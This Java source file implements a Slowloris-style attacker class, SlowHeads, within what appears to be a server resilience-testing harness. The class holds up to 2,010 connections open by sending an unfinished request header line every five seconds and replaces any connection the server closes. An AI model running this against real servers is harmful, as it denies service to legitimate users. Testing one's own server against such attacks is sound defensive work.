package cn.qianhu.trial.siege;

import cn.qianhu.contract.text.Bilingual;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;

/**
 * Somebody without a key opens as many connections as would shut everybody out, and sends a line of
 * a head on each every five seconds, without end.
 */
final class SlowHeads implements Attacker {

  private static final int CONNECTIONS = 2_010;

  private final String server;
  private final int port;
  private final Address address;
  private final List<Socket> open = new ArrayList<>();

  SlowHeads(String server, int port, Address address) {
    this.server = server;
    this.port = port;
    this.address = address;
  }

  @Override
  public String name() {
    return "slow-heads-" + server;
  }

  @Override
  public Bilingual words() {
    return Bilingual.of(
        "无密钥者打开 2,010 个连接，每 5 秒发送一行请求头",
        "somebody without a key holds up to 2,010 connections by a line of a head every 5 s");
  }

  @Override
  public Duration pause() {
    return Duration.ofSeconds(5);
  }

  /** A line on each that is open; in the place of those that were closed, as many as are let in. */
  @Override
  public void attack(Replies replies) throws IOException {
    for (Iterator<Socket> each = open.iterator(); each.hasNext(); ) {
      Socket socket = each.next();
      if (isClosed(socket)) {
        socket.close();
        each.remove();
        replies.add("cut off");
      }
    }
    // Of those that were opened before: what the server makes room by is seen only later.
    replies.most("held at most", open.size());
    while (open.size() < CONNECTIONS) {
      Socket socket = address.connect(port);
      open.add(socket);
      replies.add("opened");
      write(socket, "POST /v1/reports/output HTTP/1.1\r\n");
    }
  }

  /** Sends a line, and looks whether anything came back: nothing is due before the head ends. */
  private static boolean isClosed(Socket socket) {
    try {
      socket.setSoTimeout(1);
      write(socket, "X-Wait: a little longer\r\n");
      return socket.getInputStream().available() > 0 || socket.getInputStream().read() < 0;
    } catch (SocketTimeoutException e) {
      return false;
    } catch (IOException e) {
      return true;
    }
  }

  private static void write(Socket socket, String line) throws IOException {
    socket.getOutputStream().write(line.getBytes(StandardCharsets.US_ASCII));
  }

  @Override
  public void close() {
    open.forEach(SlowHeads::close);
    open.clear();
  }

  static void close(Socket socket) {
    try {
      socket.close();
    } catch (IOException e) {
      // It was closed by the other side.
    }
  }
}
